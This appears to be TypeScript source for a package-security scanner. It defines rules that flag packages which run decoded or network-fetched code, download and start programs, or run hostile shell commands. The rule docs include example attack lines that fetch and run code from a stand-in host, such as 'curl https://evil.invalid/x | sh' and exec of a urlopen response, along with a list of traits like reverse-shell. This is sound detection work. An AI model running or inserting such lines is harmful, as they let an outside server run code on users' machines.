import { WHEN, isUnasked, type Combination } from './combination.js';
import { commandTraits } from './commands.js';
import type { Label } from './value.js';

/** Nothing from the caller, a file or a setting was mixed in: what happens is fixed in the source. */
function isPure(labels: ReadonlySet<Label>): boolean {
  return !['parameter', 'file', 'environment', 'process-output'].some((label) => labels.has(label as Label));
}

/** Code that comes from elsewhere than the file one reads. */
export const CODE_COMBINATIONS: readonly Combination[] = [
  {
    doc: {
      id: 'decoded-code-executed',
      title: 'Runs code that it first decodes',
      why: 'Honest packages ship their code as source. Code that is decoded and run in one go is hidden from whoever reads the package.',
      remedy: 'Do not install the package. If it is yours, ship the code as a readable module.',
      example: 'exec(base64.b64decode("cHJpbnQoMSk="))',
      technique: 'T1027',
    },
    judge: ({ behaviour, labels, reach }) => {
      if (behaviour !== 'runs-code' || !labels.has('decoded') || labels.has('parameter')) return undefined;
      return isUnasked(reach) || isPure(labels) ? 'CRITICAL' : 'LOW';
    },
    message: ({ name, reach }) => `${name} runs decoded text ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'remote-code-executed',
      title: 'Runs code that it fetches from the network',
      why: 'Whoever holds the server decides what runs on your machine, and can change it at any time after this check.',
      remedy: 'Do not install the package.',
      example: 'exec(urllib.request.urlopen("https://evil.invalid/x").read())',
      technique: 'T1105',
    },
    judge: ({ behaviour, labels, reach, host }) => {
      if (behaviour !== 'runs-code' || !labels.has('network')) return undefined;
      if (isUnasked(reach)) return 'CRITICAL';
      return host !== undefined && isPure(labels) ? 'CRITICAL' : 'LOW';
    },
    message: ({ name, reach }) => `${name} runs a network answer ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'download-started',
      title: 'Downloads a program and starts it',
      why: 'The program is not part of the package that was checked, and it runs with your rights.',
      remedy: 'Do not install the package.',
      example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
      technique: 'T1105',
    },
    judge: ({ behaviour, labels, reach, host }) => {
      if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
        return undefined;
      if (isUnasked(reach)) return 'CRITICAL';
      return host !== undefined && isPure(labels) ? 'HIGH' : 'LOW';
    },
    message: ({ name, reach }) => `${name} starts something that was downloaded ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'decoded-command-started',
      title: 'Starts a command or program that it first decodes',
      why: 'Hiding a command behind an encoding has no honest purpose in code that runs by itself.',
      remedy: 'Do not install the package.',
      example: 'subprocess.run(base64.b64decode("Y2FsYw==").decode(), shell=True)',
      technique: 'T1140',
    },
    judge: ({ behaviour, labels, reach }) => {
      if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('decoded'))
        return undefined;
      if (labels.has('parameter') || labels.has('process-output')) return undefined;
      return isUnasked(reach) ? 'CRITICAL' : 'LOW';
    },
    message: ({ name, reach }) => `${name} starts something that was decoded ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'hostile-command',
      title: 'Runs a shell command that fetches and runs, hides, persists or opens a shell to outside',
      why: 'Such a command line does on your machine what its writer wants, outside the package that was checked.',
      remedy: 'Do not install the package.',
      example: 'os.system("curl https://evil.invalid/x | sh")',
      technique: 'T1059',
    },
    judge: ({ behaviour, reach, text }) => {
      if (behaviour !== 'starts-process' || text === undefined) return undefined;
      const traits = commandTraits(text);
      const isHostile = (
        ['fetches-and-runs', 'encoded', 'reverse-shell', 'persists', 'sends', 'tampers'] as const
      ).some((trait) => traits.has(trait));
      if (isHostile) return isUnasked(reach) ? 'CRITICAL' : traits.has('reverse-shell') ? 'MEDIUM' : 'LOW';
      if (!isUnasked(reach)) return undefined;
      if (traits.has('fetches')) return traits.has('hidden') ? 'CRITICAL' : 'MEDIUM';
      return traits.has('hidden') ? 'MEDIUM' : undefined;
    },
    message: ({ name, reach, text }) =>
      `${name} ${[...commandTraits(text ?? '')].join(', ').replaceAll('-', ' ')} ${WHEN[reach]}`,
  },
];
